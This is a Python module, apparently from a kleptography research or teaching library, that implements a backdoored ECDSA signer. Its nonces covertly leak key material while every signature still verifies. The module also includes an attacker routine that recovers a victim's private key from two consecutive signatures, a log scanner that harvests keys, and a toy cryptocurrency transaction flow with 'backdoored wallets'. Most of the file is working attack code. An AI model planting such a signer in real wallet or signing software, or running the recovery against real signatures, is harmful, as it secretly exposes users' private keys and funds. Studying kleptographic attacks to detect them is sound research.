"""Malicious ECDSA signer, attacker-side recovery and a toy transaction flow.

A :class:`MaliciousSigner` pairs up its signatures: the 1st, 3rd, ...
signature uses a round-one kleptogram nonce, the 2nd, 4th, ... the
round-two nonce.  Every output is a normal, verifying ECDSA signature.
Given two consecutive signatures from one key, the attacker rebuilds both
nonce points from the verification equation, recovers the second nonce
and solves for the victim's private key.
"""

from __future__ import annotations

import hashlib
import json
import logging
from dataclasses import dataclass, replace
from typing import Iterable, List, NamedTuple, Optional

from .curve import CurveParams, Point, encode_point, point_from_hex, point_to_hex, scalar_mul
from .ecdsa import (
    ECDSAError,
    KeyPair,
    RetryNonce,
    Signature,
    default_rng,
    extract_key_from_known_nonce,
    hash_to_scalar,
    random_scalar,
    reconstruct_nonce_point,
    sign,
    sign_deterministic,
    sign_with_point,
    signature_from_hex,
    verify,
)
from .kleptogram import (
    DEFAULT_MAX_RETRY,
    KleptoState,
    SetupParams,
    klepto_recover,
    klepto_rederive,
    klepto_round1,
    klepto_round2,
)

log = logging.getLogger(__name__)

MODES = ("honest", "malicious", "deterministic")


class RecordError(ValueError):
    pass


@dataclass(frozen=True)
class SignatureRecord:
    index: int
    msg: bytes
    sig: Signature
    pubkey: Point

    def verifies(self, params: CurveParams) -> bool:
        return bool(verify(self.msg, self.sig, self.pubkey, params))

    def to_json(self, params: CurveParams) -> str:
        w = 2 * params.scalar_bytes
        return json.dumps(
            {
                "index": self.index,
                "pubkey_hex": point_to_hex(self.pubkey, params),
                "msg_hex": self.msg.hex(),
                "r_hex": f"{self.sig.r:0{w}x}",
                "s_hex": f"{self.sig.s:0{w}x}",
            },
            sort_keys=True,
        )

    @classmethod
    def from_json(cls, line: str, params: CurveParams) -> "SignatureRecord":
        try:
            obj = json.loads(line)
            sig = signature_from_hex(obj["r_hex"] + obj["s_hex"], params)
            return cls(
                index=int(obj["index"]),
                msg=bytes.fromhex(obj["msg_hex"]),
                sig=sig,
                pubkey=point_from_hex(obj["pubkey_hex"], params),
            )
        except (KeyError, TypeError, ValueError) as exc:
            raise RecordError(f"malformed signature record: {exc}") from None


def write_log(records: Iterable[SignatureRecord], path, params: CurveParams, append=False) -> None:
    with open(path, "a" if append else "w") as fh:
        for rec in records:
            fh.write(rec.to_json(params) + "\n")


def read_log(path, params: CurveParams):
    """Parse a signature log; returns ``(records, malformed_line_count)``."""
    records, bad = [], 0
    with open(path) as fh:
        for line in fh:
            if not line.strip():
                continue
            try:
                records.append(SignatureRecord.from_json(line, params))
            except RecordError:
                bad += 1
    return records, bad


# -- signers ----------------------------------------------------------------


def sign_honest(msg: bytes, kp: KeyPair, params: CurveParams, rng=None) -> Signature:
    rng = rng or default_rng()
    while True:
        try:
            return sign(msg, kp.d, random_scalar(rng, params), params)
        except RetryNonce:
            continue


@dataclass(frozen=True)
class MaliciousSigner:
    keypair: KeyPair
    klepto: KleptoState
    signature_counter: int = 0

    @classmethod
    def create(cls, keypair: KeyPair, setup: SetupParams) -> "MaliciousSigner":
        return cls(keypair, KleptoState(setup))

    @property
    def setup(self) -> SetupParams:
        return self.klepto.setup


def malicious_sign(signer: MaliciousSigner, msg: bytes, params: CurveParams, rng=None):
    """Sign ``msg`` with the next kleptogram nonce; returns ``(sig, signer')``."""
    rng = rng or default_rng()
    d = signer.keypair.d
    e = hash_to_scalar(msg, params)
    if signer.klepto.phase == "round1":
        while True:
            c1, M1, state = klepto_round1(signer.klepto, params, rng)
            try:
                sig = sign_with_point(e, d, c1, M1, params)
                break
            except RetryNonce:
                continue
    else:
        cand, M2, state = klepto_round2(signer.klepto, params, rng)
        while True:
            try:
                sig = sign_with_point(e, d, cand.c, M2, params)
                break
            except RetryNonce:
                cand, M2 = klepto_rederive(cand, signer.setup, params)
    return sig, replace(signer, klepto=state, signature_counter=signer.signature_counter + 1)


def attacker_recover_privkey(
    rec1: SignatureRecord,
    rec2: SignatureRecord,
    d_A: int,
    setup: SetupParams,
    params: CurveParams,
    max_retry: int = DEFAULT_MAX_RETRY,
) -> Optional[int]:
    """Victim's private key from two consecutive signatures, or None.

    Raises RecordError when the records belong to different keys or do not
    verify.
    """
    if rec1.pubkey != rec2.pubkey:
        raise RecordError("records are signed under different public keys")
    try:
        M1 = reconstruct_nonce_point(rec1.msg, rec1.sig, rec1.pubkey, params)
        M2 = reconstruct_nonce_point(rec2.msg, rec2.sig, rec2.pubkey, params)
    except ECDSAError as exc:
        raise RecordError(str(exc)) from None
    c2 = klepto_recover(
        M1, M2, d_A, setup.alpha, setup.beta, setup.omega, setup.prng_seed, params, max_retry
    )
    if c2 is None:
        return None
    d = extract_key_from_known_nonce(rec2.msg, rec2.sig, c2, params)
    if d == 0 or scalar_mul(d, params.G, params) != rec2.pubkey:
        return None
    return d


class RecoveredKey(NamedTuple):
    pubkey: Point
    d: int


def group_by_pubkey(records: Iterable[SignatureRecord]) -> dict:
    groups: dict = {}
    for rec in records:
        groups.setdefault(rec.pubkey, []).append(rec)
    for recs in groups.values():
        recs.sort(key=lambda r: r.index)
    return groups


def scan_signature_log(
    records: Iterable[SignatureRecord],
    d_A: int,
    setup: SetupParams,
    params: CurveParams,
    max_retry: int = DEFAULT_MAX_RETRY,
) -> List[RecoveredKey]:
    """Try every consecutive same-key pair; one hit per recovered key.

    A sliding window is used, so the scan does not need to know where the
    signer's round-one/round-two pairing starts.  Records that fail
    verification are skipped and counted in a warning.
    """
    good, skipped = [], 0
    for rec in records:
        if rec.verifies(params):
            good.append(rec)
        else:
            skipped += 1
    if skipped:
        log.warning("skipped %d non-verifying records", skipped)

    found = []
    for pubkey, recs in group_by_pubkey(good).items():
        for rec1, rec2 in zip(recs, recs[1:]):
            d = attacker_recover_privkey(rec1, rec2, d_A, setup, params, max_retry)
            if d is not None:
                found.append(RecoveredKey(pubkey, d))
                break
    return found


# -- addresses and transactions ---------------------------------------------


def derive_address(Q: Point, params: CurveParams) -> bytes:
    """SHA-256 applied twice to the compressed public key.

    Deployed Bitcoin uses SHA-256 followed by RIPEMD-160; this is the
    simplified double-SHA-256 variant.
    """
    return hashlib.sha256(hashlib.sha256(encode_point(Q, params)).digest()).digest()


def _field(data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + data


@dataclass(frozen=True)
class TxInput:
    prev_txid: bytes
    address: bytes
    amount: int = 0  # value of the spent output; informational


@dataclass(frozen=True)
class TxOutput:
    address: bytes
    amount: int


@dataclass(frozen=True)
class SimpleTransaction:
    inputs: tuple
    outputs: tuple

    def __post_init__(self):
        for i in self.inputs:
            if len(i.prev_txid) != 32 or len(i.address) != 32:
                raise ValueError("txids and addresses are 32 bytes")
        for o in self.outputs:
            if len(o.address) != 32 or o.amount < 0:
                raise ValueError("bad output")

    def serialize(self) -> bytes:
        """Canonical bytes: every field is a 4-byte big-endian length then data.

        ``tag | n_in | (prev_txid | address)* | n_out | (address | amount_u64)*``
        Input amounts are not part of the payload.
        """
        out = [_field(b"kleptolab-tx-v1"), len(self.inputs).to_bytes(4, "big")]
        for i in self.inputs:
            out += [_field(i.prev_txid), _field(i.address)]
        out.append(len(self.outputs).to_bytes(4, "big"))
        for o in self.outputs:
            out += [_field(o.address), _field(o.amount.to_bytes(8, "big"))]
        return b"".join(out)

    def signing_payload(self, input_index: int) -> bytes:
        return self.serialize() + _field(b"input") + input_index.to_bytes(4, "big")

    def txid(self) -> bytes:
        return hashlib.sha256(hashlib.sha256(self.serialize()).digest()).digest()

    def to_dict(self) -> dict:
        return {
            "inputs": [
                {"prev_txid": i.prev_txid.hex(), "address": i.address.hex(), "amount": i.amount}
                for i in self.inputs
            ],
            "outputs": [{"address": o.address.hex(), "amount": o.amount} for o in self.outputs],
        }

    @classmethod
    def from_dict(cls, data: dict) -> "SimpleTransaction":
        return cls(
            inputs=tuple(
                TxInput(bytes.fromhex(i["prev_txid"]), bytes.fromhex(i["address"]), int(i.get("amount", 0)))
                for i in data["inputs"]
            ),
            outputs=tuple(
                TxOutput(bytes.fromhex(o["address"]), int(o["amount"])) for o in data["outputs"]
            ),
        )


@dataclass
class SigningContext:
    """What a wallet holds per address; ``malicious`` is set for backdoored wallets."""

    keypair: KeyPair
    malicious: Optional[MaliciousSigner] = None


def sign_transaction(
    tx: SimpleTransaction,
    wallet: dict,
    mode: str,
    params: CurveParams,
    rng=None,
) -> List[SignatureRecord]:
    """One signature per input over its signing payload.

    ``wallet`` maps address bytes to :class:`SigningContext`.  In malicious
    mode the contexts' signer state advances in place, so two inputs from
    one address consume both kleptogram rounds inside a single transaction.
    """
    if mode not in MODES:
        raise ValueError(f"unknown mode {mode!r}")
    rng = rng or default_rng()
    records = []
    for idx, txin in enumerate(tx.inputs):
        ctx = wallet.get(txin.address)
        if ctx is None:
            raise KeyError(f"input {idx}: address {txin.address.hex()} not in wallet")
        payload = tx.signing_payload(idx)
        if mode == "honest":
            sig = sign_honest(payload, ctx.keypair, params, rng)
        elif mode == "deterministic":
            sig = sign_deterministic(payload, ctx.keypair.d, params)
        else:
            if ctx.malicious is None:
                raise ValueError(f"address {txin.address.hex()} has no malicious signer")
            sig, ctx.malicious = malicious_sign(ctx.malicious, payload, params, rng)
        records.append(SignatureRecord(idx, payload, sig, ctx.keypair.Q))
    return records
